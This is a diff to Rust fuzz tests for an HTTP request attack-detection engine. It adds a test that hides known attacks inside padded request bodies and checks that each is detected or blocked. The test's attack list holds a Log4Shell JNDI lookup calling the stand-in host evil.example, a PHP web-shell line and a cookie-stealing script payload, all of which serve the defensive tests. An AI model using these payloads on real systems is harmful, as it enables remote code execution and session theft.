@@ -27,10 +27,6 @@ pub fn inspect_and_compare(message: &Message<'_>) {
     let options = InspectionOptions { explain: true, ..InspectionOptions::default() };
     let inspection = inspect(message, ruleset(), &options, &mut Scratch::default(), &|| false);
     serde_json::to_string(&inspection).expect("an inspection serialises");
-    if inspection.not_inspected.iter().any(|gap| gap.reason == SkipReason::WorkLimit) {
-        // Cached values cost no work, so the reused memory lets the inspection get further: the results may differ.
-        return;
-    }
     for _ in 0..3 {
         let again =
             USED.with_borrow_mut(|used| inspect(message, ruleset(), &InspectionOptions::default(), used, &|| false));
@@ -64,20 +60,63 @@ const DECLARED: &[(&str, &str)] = &[
     ("content-encoding", "br"),
     ("content-encoding", "zstd"),
     ("x-none", ""),
+    ("content-type", "application/x-protobuf"),
+    ("content-type", "application/grpc-web-text"),
+    ("content-type", "image/svg+xml"),
+    ("content-type", "application/octet-stream"),
 ];
 
 /// A request body; the first byte of the input chooses the header that declares its type or coding.
 pub fn body(data: &[u8]) {
     let Some((&choice, body)) = data.split_first() else { return };
+    inspect_and_compare(&declared(choice, body));
+}
+
+/// A request with `body`, and the header of [`DECLARED`] that `choice` stands for.
+fn declared(choice: u8, body: &[u8]) -> Message<'_> {
     let (name, value) = DECLARED[choice as usize % DECLARED.len()];
-    inspect_and_compare(&Message {
+    Message {
         method: b"POST",
         target: b"/",
         protocol: b"HTTP/1.1",
         headers: vec![Header { name: name.as_bytes(), value: value.as_bytes() }],
         body,
         ..Message::default()
-    });
+    }
+}
+
+/// Attacks that no text before or behind them undoes. SQL is not among them, since behind a quote it is a string, and commands
+/// are not, since a text of several lines may show them (docs/detection.md).
+const ATTACKS: &[&str] =
+    &["${jndi:ldap://evil.example/a}", "<?php system($_GET['c']); ?>", "<script>alert(document.cookie)</script>"];
+
+/// What is not inspected for these reasons is blocked by default.
+const BLOCKED_BY_DEFAULT: &[SkipReason] = &[
+    SkipReason::WorkLimit,
+    SkipReason::ValueLimit,
+    SkipReason::DepthLimit,
+    SkipReason::CountLimit,
+    SkipReason::Recodings,
+    SkipReason::Decompression,
+];
+
+/// An attack in a body, with the input before and behind it: it is found, or blocked for what was not inspected. The
+/// first bytes of the input choose the declared type or coding, the attack, and where in the rest it is put.
+pub fn padded(data: &[u8]) {
+    let Some((&[choice, attack, at], padding)) = data.split_first_chunk() else { return };
+    let attack = ATTACKS[attack as usize % ATTACKS.len()];
+    let (before, behind) = padding.split_at(padding.len() * usize::from(at) / 255);
+    let body = [before, b"\n", attack.as_bytes(), b"\n", behind].concat();
+    let message = declared(choice, &body);
+    let options = InspectionOptions::default();
+    let found = USED.with_borrow_mut(|used| inspect(&message, ruleset(), &options, used, &|| false));
+    let stopped = found.not_inspected.iter().any(|gap| BLOCKED_BY_DEFAULT.contains(&gap.reason));
+    assert!(
+        stopped || !found.attacks().is_empty(),
+        "{attack} passes as {:?}: {}",
+        message.headers[0].value.escape_ascii().to_string(),
+        body.escape_ascii()
+    );
 }
 
 /// Every view, applied four times to its own output: the result must stay within eight times the input.
